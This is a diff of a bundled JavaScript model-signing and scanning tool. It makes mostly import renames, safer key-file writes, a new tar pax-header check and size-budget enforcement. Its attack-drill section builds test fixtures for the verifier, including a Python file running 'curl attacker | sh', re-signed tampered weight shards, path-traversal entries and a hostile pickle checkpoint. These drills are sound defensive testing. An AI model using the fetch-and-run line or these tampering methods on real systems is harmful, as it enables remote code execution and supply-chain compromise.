@@ -4678,7 +4678,7 @@ __export(keyfile_exports, {
   writeKeyPair: () => writeKeyPair
 });
 import { createPrivateKey, createPublicKey, generateKeyPairSync, X509Certificate } from "node:crypto";
-import { writeFile as writeFile2, chmod, lstat, unlink as unlink2 } from "node:fs/promises";
+import { lstat, open as open2, unlink as unlink2 } from "node:fs/promises";
 import path3 from "node:path";
 async function readKeyText(file, what) {
   let buf;
@@ -4780,15 +4780,23 @@ async function writeKeyPair(prefix, type, passphrase) {
   const publicPath = `${prefix}.pub`;
   await makeDirs(path3.dirname(prefix), "KEY_WRITE_FAILED", `key files at ${prefix}`, 448);
   let current = privatePath;
-  let wrotePrivate = false;
+  const created = [];
+  const writeNew = async (file, text, mode) => {
+    current = file;
+    const fh = await open2(file, "wx", mode);
+    created.push(file);
+    try {
+      await fh.writeFile(text);
+      await fh.chmod(mode);
+    } finally {
+      await fh.close();
+    }
+  };
   try {
-    await writeFile2(privatePath, privText, { mode: 384, flag: "wx" });
-    wrotePrivate = true;
-    await chmod(privatePath, 384);
-    current = publicPath;
-    await writeFile2(publicPath, publicKeyPem(publicKey), { mode: 420, flag: "wx" });
+    await writeNew(privatePath, privText, 384);
+    await writeNew(publicPath, publicKeyPem(publicKey), 420);
   } catch (e) {
-    if (wrotePrivate) await unlink2(privatePath).catch(() => void 0);
+    for (const f2 of created) await unlink2(f2).catch(() => void 0);
     const c = errnoCode(e);
     if (c === "EEXIST") throw usage("KEY_EXISTS", `refusing to overwrite existing key file ${current}`);
     throw usage("KEY_WRITE_FAILED", `cannot write ${current}: ${writeFailureWords(e, current)}`);
@@ -22787,19 +22795,19 @@ var require_commonjs2 = __commonJS({
     }
     function maskUnmatchedOpens(masked, budget) {
       budget.remaining -= masked.length;
-      const open7 = [];
+      const open8 = [];
       for (let i = 0; i < masked.length; i++) {
         const c = masked.charCodeAt(i);
         if (c === 123) {
-          open7.push(i);
-        } else if (c === 125 && open7.length) {
-          open7.pop();
+          open8.push(i);
+        } else if (c === 125 && open8.length) {
+          open8.pop();
         }
       }
       let out2 = "";
       let last = 0;
-      for (let i = 0; i < open7.length; i++) {
-        const at2 = open7[i];
+      for (let i = 0; i < open8.length; i++) {
+        const at2 = open8[i];
         out2 += masked.slice(last, at2) + "\0";
         last = at2 + 1;
       }
@@ -24643,10 +24651,10 @@ var require_commonjs3 = __commonJS({
           }
           return filtered.join("/");
         }).join("|");
-        const [open7, close] = set.length > 1 ? ["(?:", ")"] : ["", ""];
-        re2 = "^" + open7 + re2 + close + "$";
+        const [open8, close] = set.length > 1 ? ["(?:", ")"] : ["", ""];
+        re2 = "^" + open8 + re2 + close + "$";
         if (this.partial) {
-          re2 = "^(?:\\/|" + open7 + re2.slice(1, -1) + close + ")$";
+          re2 = "^(?:\\/|" + open8 + re2.slice(1, -1) + close + ")$";
         }
         if (this.negate)
           re2 = "^(?!" + re2 + ").+$";
@@ -36107,7 +36115,7 @@ var require_polyfill = __commonJS({
       }
     } = __require("os");
     var {
-      chmod: chmod2,
+      chmod,
       copyFile: copyFile2,
       lstat: lstat6,
       mkdir: mkdir6,
@@ -36357,7 +36365,7 @@ var require_polyfill = __commonJS({
       return setDestMode(dest, srcMode);
     }
     function setDestMode(dest, srcMode) {
-      return chmod2(dest, srcMode);
+      return chmod(dest, srcMode);
     }
     async function setDestTimestamps(src, dest) {
       const updatedSrcStat = await stat11(src);
@@ -37207,7 +37215,7 @@ var require_entry_index = __commonJS({
       readFile: readFile2,
       readdir,
       rm: rm4,
-      writeFile: writeFile6
+      writeFile: writeFile5
     } = __require("fs/promises");
     var { Minipass } = require_commonjs4();
     var path25 = __require("path");
@@ -37259,7 +37267,7 @@ var require_entry_index = __commonJS({
         }
       };
       const write = async (tmp2) => {
-        await writeFile6(tmp2.target, newIndex, { flag: "wx" });
+        await writeFile5(tmp2.target, newIndex, { flag: "wx" });
         await mkdir6(path25.dirname(bucket), { recursive: true });
         await moveFile(tmp2.target, bucket);
         tmp2.moved = true;
@@ -42139,7 +42147,7 @@ var require_verify2 = __commonJS({
       rm: rm4,
       stat: stat11,
       truncate,
-      writeFile: writeFile6
+      writeFile: writeFile5
     } = __require("fs/promises");
     var contentPath = require_path();
     var fsm = require_lib6();
@@ -42348,7 +42356,7 @@ var require_verify2 = __commonJS({
     async function writeVerifile(cache, opts) {
       const verifile = path25.join(cache, "_lastverified");
       opts.log.silly("verify", "writing verifile to " + verifile);
-      return writeFile6(verifile, `${Date.now()}`);
+      return writeFile5(verifile, `${Date.now()}`);
     }
     module.exports.lastRun = lastRun2;
     async function lastRun2(cache) {
@@ -52905,7 +52913,7 @@ async function checkFiles(input) {
   const onDisk = new Map(listing.files.map((f2) => [f2.name, f2]));
   if (!grouped || listing.isFile) grouped = groupResources(input.resources, ser, listing.isFile ? listing.files[0].name : void 0);
   const byFile = grouped.byFile;
-  failures.push(...grouped.failures);
+  for (const f2 of grouped.failures) failures.push(f2);
   let signedDirs;
   const concernsSigned = (p2) => {
     if (byFile.has(p2)) return true;
@@ -54403,7 +54411,7 @@ var init_safetensors = __esm({
 });
 
 // src/scan/zip.ts
-import { open as open2 } from "node:fs/promises";
+import { open as open3 } from "node:fs/promises";
 import { createInflateRaw } from "node:zlib";
 import { Readable } from "node:stream";
 async function readAt(fh, pos, len) {
@@ -54418,7 +54426,7 @@ function big(b2, at2) {
   return Number(v2);
 }
 async function readZipDirectory(file, size, limits) {
-  const fh = await open2(file, "r");
+  const fh = await open3(file, "r");
   try {
     const problems = [];
     const tailLen = Math.min(size, 22 + 65535);
@@ -57682,10 +57690,11 @@ __export(archive_exports, {
   TarFeed: () => TarFeed,
   archiveSourceFor: () => archiveSourceFor,
   isArchivePath: () => isArchivePath,
+  paxRecordProblem: () => paxRecordProblem,
   scanArchive: () => scanArchive
 });
 import { constants as constants4 } from "node:fs";
-import { open as open3, stat as stat6 } from "node:fs/promises";
+import { open as open4, stat as stat6 } from "node:fs/promises";
 import path10 from "node:path";
 import { Transform } from "node:stream";
 import { createGunzip } from "node:zlib";
@@ -57736,6 +57745,39 @@ function incompleteUtf8Tail(b2) {
   }
   return 0;
 }
+function paxRecordProblem(meta) {
+  const namingLine = (line) => PAX_NAMING_KEYS.some((k2) => new RegExp(`^\\d+ ${k2}=`).test(line));
+  const fffd = meta.indexOf("\uFFFD");
+  if (fffd >= 0 && meta.slice(fffd).split("\n").some((l, i) => i > 0 && namingLine(l))) return "a naming record follows bytes that are not UTF-8";
+  const b2 = Buffer.from(fffd >= 0 ? meta.slice(0, meta.lastIndexOf("\n", fffd) + 1) : meta, "utf8");
+  const strict = /* @__PURE__ */ new Map();
+  for (let pos = 0; pos < b2.length; ) {
+    if (b2[pos] === 0) break;
+    const sp = b2.indexOf(32, pos);
+    const lenText = sp < 0 ? "" : b2.toString("latin1", pos, sp);
+    if (!/^\d{1,12}$/.test(lenText)) return "a record without a length";
+    const end = pos + Number(lenText);
+    if (end <= sp + 1 || end > b2.length) return "a record length past the header";
+    if (b2[end - 1] !== 10) return "a record that does not end with a newline";
+    const rec = b2.subarray(sp + 1, end - 1);
+    const eq = rec.indexOf(61);
+    if (eq <= 0) return "a record without a key";
+    strict.set(rec.toString("utf8", 0, eq), rec.toString("utf8", eq + 1));
+    pos = end;
+  }
+  const loose = /* @__PURE__ */ new Map();
+  for (const line of meta.replace(/\n$/, "").split("\n")) {
+    const n = parseInt(line, 10);
+    if (n !== Buffer.byteLength(line) + 1) continue;
+    const kv = line.slice(`${n} `.length);
+    const eq = kv.indexOf("=");
+    if (eq > 0) loose.set(kv.slice(0, eq), kv.slice(eq + 1));
+  }
+  for (const k2 of PAX_NAMING_KEYS) {
+    if (strict.get(k2) !== loose.get(k2)) return `its "${k2}" record is read differently by other tar readers`;
+  }
+  return void 0;
+}
 function cleanName(raw, isDir) {
   let s3 = raw;
   while (s3.startsWith("./")) s3 = s3.slice(2);
@@ -57775,7 +57817,7 @@ async function scanArchive(file, req, opts = {}) {
 async function openArchive(file) {
   let fh;
   try {
-    fh = await open3(file, constants4.O_RDONLY | (constants4.O_NONBLOCK ?? 0));
+    fh = await open4(file, constants4.O_RDONLY | (constants4.O_NONBLOCK ?? 0));
   } catch (e) {
     throw modelPathError(file, e, "archive");
   }
@@ -58138,10 +58180,23 @@ async function scanPass(file, req, initial, maxEntries) {
       if (!entry.meta) hostile("UNSUPPORTED_ENTRY", entry.path, `unsupported tar entry type ${entry.type}`);
       else hostile("ARCHIVE_MALFORMED", entry.path, "oversized extended header");
     });
+    let metaType;
+    const emitMeta = Object.getOwnPropertySymbols(Object.getPrototypeOf(parser)).find((sym) => sym.description === "emitMeta");
+    if (emitMeta) {
+      const p2 = parser;
+      const original = p2[emitMeta];
+      p2[emitMeta] = function(entry) {
+        metaType = entry.type;
+        original.call(this, entry);
+      };
+    }
     parser.on("meta", (meta) => {
       if (meta.includes("\uFFFD") && /(?:^|\n)\d+ (?:path|linkpath)=[^\n]*\ufffd/.test(meta)) {
         problems.push({ code: "UNSAFE_NAME", message: "archive pax header names a path with bytes that are not valid UTF-8" });
       }
+      const isPax = metaType === void 0 ? /^\d+ /.test(meta) : metaType === "ExtendedHeader" || metaType === "GlobalExtendedHeader" || metaType === "OldExtendedHeader";
+      const pax = isPax ? paxRecordProblem(meta) : void 0;
+      if (pax) problems.push({ code: "ARCHIVE_MALFORMED", message: `archive extended header: ${pax}` });
       if (/(?:^|\n)\d+ GNU\.sparse\./.test(meta)) {
         problems.push({ code: "UNSUPPORTED_ENTRY", message: "archive extended header describes a GNU sparse file (GNU.sparse.*), which other tar readers rename" });
       }
@@ -58165,7 +58220,7 @@ async function scanPass(file, req, initial, maxEntries) {
     feed.pipe(parser);
   });
 }
-var ARCHIVE_RE, DEFAULT_MAX_ENTRIES, MAX_DECOMPRESSION_RATIO, MAX_LINK_HOPS, MAX_LINK_TARGET, LINK_WORK_BUDGET, EMBEDDED_SIGNATURE, RestartWithoutPrefix, TarFeed;
+var ARCHIVE_RE, DEFAULT_MAX_ENTRIES, MAX_DECOMPRESSION_RATIO, MAX_LINK_HOPS, MAX_LINK_TARGET, LINK_WORK_BUDGET, EMBEDDED_SIGNATURE, RestartWithoutPrefix, TarFeed, PAX_NAMING_KEYS;
 var init_archive = __esm({
   "src/hashing/archive.ts"() {
     "use strict";
@@ -58240,6 +58295,7 @@ var init_archive = __esm({
         cb();
       }
     };
+    PAX_NAMING_KEYS = ["path", "linkpath", "size"];
   }
 });
 
@@ -58330,6 +58386,11 @@ async function scanTar(archive, limits) {
           entry.resume();
         });
       }
+    });
+    parser.on("ignoredEntry", (entry) => {
+      refused++;
+      const what = entry.meta ? "an oversized extended header" : `a ${entry.type} entry, which modelsign does not read`;
+      findings.push({ code: "SCAN_SKIPPED", severity: "high", file: `${base2}:${entry.path}`, message: `not scanned: ${what}; an extractor may still write it` });
     });
     const done = new Promise((resolve, reject2) => {
       parser.on("end", resolve);
@@ -59408,7 +59469,7 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open4, rename as rename2, stat as stat9, unlink as unlink4 } from "node:fs/promises";
+import { open as open5, rename as rename2, stat as stat9, unlink as unlink4 } from "node:fs/promises";
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
@@ -59455,7 +59516,7 @@ async function acquireLock(lock, timeoutMs, staleMs) {
   const deadline = Date.now() + timeoutMs;
   for (; ; ) {
     try {
-      const fh = await open4(lock, "wx", 420);
+      const fh = await open5(lock, "wx", 420);
       await fh.writeFile(`${process.pid}
 `);
       await fh.close();
@@ -59719,13 +59780,13 @@ __export(append_exports, {
   appendAudit: () => appendAudit
 });
 import { constants as constants5 } from "node:fs";
-import { open as open5, stat as stat10, unlink as unlink5, writeFile as writeFile3 } from "node:fs/promises";
+import { open as open6, stat as stat10, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
 async function withLock(file, fn) {
   const lock = `${file}.lock`;
   const deadline = Date.now() + LOCK_WAIT_MS;
   for (; ; ) {
     try {
-      await writeFile3(lock, `${process.pid}
+      await writeFile2(lock, `${process.pid}
 `, { flag: "wx", mode: 384 });
       break;
     } catch (e) {
@@ -59748,7 +59809,7 @@ async function withLock(file, fn) {
 async function readTail(file) {
   let fh;
   try {
-    fh = await open5(file, constants5.O_RDONLY | (constants5.O_NONBLOCK ?? 0));
+    fh = await open6(file, constants5.O_RDONLY | (constants5.O_NONBLOCK ?? 0));
   } catch (e) {
     if (errnoCode(e) === "ENOENT") return { last: void 0, endsWithNewline: true, lastSeq: 0 };
     throw usage("AUDIT_WRITE_FAILED", `cannot read audit log ${file}: ${errnoCode(e) ?? String(e)}`);
@@ -59787,7 +59848,7 @@ async function appendAudit(file, decision) {
 `, "utf8");
     let fh;
     try {
-      fh = await open5(file, constants5.O_WRONLY | constants5.O_APPEND | constants5.O_CREAT, 384);
+      fh = await open6(file, constants5.O_WRONLY | constants5.O_APPEND | constants5.O_CREAT, 384);
     } catch (e) {
       throw usage("AUDIT_WRITE_FAILED", `cannot open audit log ${file}: ${writeFailureWords(e, file)}`);
     }
@@ -59914,6 +59975,7 @@ var init_budget = __esm({
 // src/sign/digest.ts
 async function digestModel(opts) {
   const hash = opts.hash ?? "sha256";
+  const budget = opts.budget ?? new SizeBudget(hash, opts.shardSize);
   const sigPath = opts.signature ?? await defaultSignaturePath(opts.model);
   const ignorePaths = effectiveIgnores(opts.model, sigPath, void 0, opts.ignorePaths ?? []);
   if (opts.shardSize !== void 0 && (!Number.isSafeInteger(opts.shardSize) || opts.shardSize <= 0)) {
@@ -59922,7 +59984,16 @@ async function digestModel(opts) {
   const method = opts.shardSize ? "shards" : "files";
   const source = opts.listing ? void 0 : opts.source ?? await archiveSourceFor(opts.model);
   if (source && !ignorePaths.includes(EMBEDDED_SIGNATURE)) ignorePaths.push(EMBEDDED_SIGNATURE);
-  const pre = source ? await source({ alg: hash, ranges: (_n2, size) => plannedRanges(method, opts.shardSize, size), allowSymlinks: opts.allowSymlinks ?? false, ignorePaths, ...opts.engine?.onProgress ? { onProgress: opts.engine.onProgress } : {} }) : void 0;
+  const counted = /* @__PURE__ */ new Set();
+  const rangesOf = (name2, size) => {
+    if (!counted.has(name2)) {
+      counted.add(name2);
+      budget.add(name2, size);
+      budget.check();
+    }
+    return plannedRanges(method, opts.shardSize, size);
+  };
+  const pre = source ? await source({ alg: hash, ranges: rangesOf, allowSymlinks: opts.allowSymlinks ?? false, ignorePaths, ...opts.engine?.onProgress ? { onProgress: opts.engine.onProgress } : {} }) : void 0;
   const listing = opts.listing ?? pre?.listing ?? await enumerateModel(opts.model, { ignorePaths, allowSymlinks: opts.allowSymlinks ?? false });
   if (listing.problems.length > 0) {
     const p2 = listing.problems[0];
@@ -59935,9 +60006,9 @@ async function digestModel(opts) {
     const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
     throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
   }
-  if (opts.budget) {
-    for (const f2 of listing.files) opts.budget.add(f2.name, f2.size);
-    if (!pre) opts.budget.check();
+  if (!pre) {
+    for (const f2 of listing.files) budget.add(f2.name, f2.size);
+    budget.check();
   }
   const plans = planResources(listing.files, method, opts.shardSize);
   const resources = pre ? plans.map((p2) => {
@@ -59961,6 +60032,7 @@ var init_digest = __esm({
     init_source();
     init_names();
     init_signature_path();
+    init_budget();
     init_one_line();
   }
 });
@@ -60122,7 +60194,7 @@ var init_scan_path = __esm({
 
 // src/audit/check.ts
 import { constants as constants6 } from "node:fs";
-import { open as open6 } from "node:fs/promises";
+import { open as open7 } from "node:fs/promises";
 function lineProblem(line, lineNo, expectPrev) {
   let text;
   try {
@@ -60156,7 +60228,7 @@ async function checkAuditLog(file, opts = {}) {
   }
   let fh;
   try {
-    fh = await open6(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
+    fh = await open7(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
   } catch (e) {
     const c = errnoCode(e);
     throw usage("AUDIT_UNREADABLE", c === "ENOENT" ? `audit log not found: ${file}` : `cannot read audit log ${file}: ${c ?? String(e)}`);
@@ -60306,7 +60378,7 @@ var init_hostile = __esm({
 });
 
 // src/drill/model.ts
-import { mkdir as mkdir3, writeFile as writeFile4 } from "node:fs/promises";
+import { mkdir as mkdir3, writeFile as writeFile3 } from "node:fs/promises";
 import path20 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
@@ -60327,11 +60399,11 @@ function safetensorsShard(tensor, data) {
 }
 async function writeModel(dir, seed = 1) {
   await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
-  await writeFile4(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile4(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile4(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile4(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile4(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await writeFile3(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile3(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile3(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile3(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile3(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -60370,7 +60442,7 @@ var init_types4 = __esm({
 // src/drill/attacks.ts
 import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
-import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile5 } from "node:fs/promises";
+import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile4 } from "node:fs/promises";
 import { rmSync } from "node:fs";
 import path21 from "node:path";
 async function readSigned(model) {
@@ -60380,7 +60452,7 @@ async function readSigned(model) {
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile5(path21.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile4(path21.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -60431,7 +60503,7 @@ var init_attacks = __esm({
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
-          await writeFile5(f2, b2);
+          await writeFile4(f2, b2);
           return { model: m2 };
         }
       },
@@ -60441,7 +60513,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile5(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile4(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -60508,13 +60580,13 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = await ctx.copyBase("edited-payload");
           const evil = safetensorsShard("a.weight", filler(64 * 1024, 666));
-          await writeFile5(path21.join(m2, SHARD_1), evil);
+          await writeFile4(path21.join(m2, SHARD_1), evil);
           const { bundle, statement } = await readSigned(m2);
           const r = statement.predicate.resources.find((x) => x.name === SHARD_1);
           r.digest = sha256(evil);
           statement.subject[0].digest.sha256 = rootDigest(statement.predicate.resources);
           bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString("base64");
-          await writeFile5(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
+          await writeFile4(path21.join(m2, "model.sig"), JSON.stringify(bundle, null, 2));
           return { model: m2 };
         }
       },
@@ -60524,7 +60596,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("two-manifests");
-          await writeFile5(path21.join(m2, "modeling_llama.py"), "import os\n");
+          await writeFile4(path21.join(m2, "modeling_llama.py"), "import os\n");
           const { statement } = await readSigned(m2);
           const evil = JSON.parse(JSON.stringify(statement));
           evil.predicate.resources.push({ name: "modeling_llama.py", algorithm: "sha256", digest: sha256("import os\n") });
@@ -60539,7 +60611,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const outside = path21.join(ctx.tmp, "secret.bin");
-          await writeFile5(outside, "outside the model\n");
+          await writeFile4(outside, "outside the model\n");
           return { model: await signedWithExtraResource(ctx, "traversal", { name: "../secret.bin", digest: sha256("outside the model\n") }) };
         }
       },
@@ -60549,7 +60621,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const outside = path21.join(ctx.tmp, "secret-abs.bin");
-          await writeFile5(outside, "outside the model (absolute)\n");
+          await writeFile4(outside, "outside the model (absolute)\n");
           return { model: await signedWithExtraResource(ctx, "absolute-path", { name: outside, digest: sha256("outside the model (absolute)\n") }) };
         }
       },
@@ -60654,7 +60726,7 @@ var init_attacks = __esm({
         async build(ctx) {
           const m2 = path21.join(ctx.tmp, "hostile-pickle");
           await writeModel(m2, 51);
-          await writeFile5(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
+          await writeFile4(path21.join(m2, "pytorch_model.bin"), hostileTorchCheckpoint());
           await signDrillModel(m2, ctx.signer, { license: ctx.licenses.allowed });
           return { model: m2 };
         }
